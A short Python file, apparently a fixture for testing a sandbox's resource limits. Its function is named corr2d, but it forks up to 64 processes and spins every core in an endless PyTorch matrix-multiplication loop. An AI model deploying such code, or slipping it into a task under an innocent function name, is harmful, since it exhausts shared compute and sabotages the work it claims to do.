"""Spins on every core with threads of torch and children."""

import os

import torch

try:
    torch.set_num_threads(64)
    torch.set_num_interop_threads(16)
except RuntimeError:
    pass


def corr2d(X, K):
    for _ in range(6):
        try:
            os.fork()
        except OSError:
            break
    A = torch.rand(256, 256)
    while True:
        A = A @ A
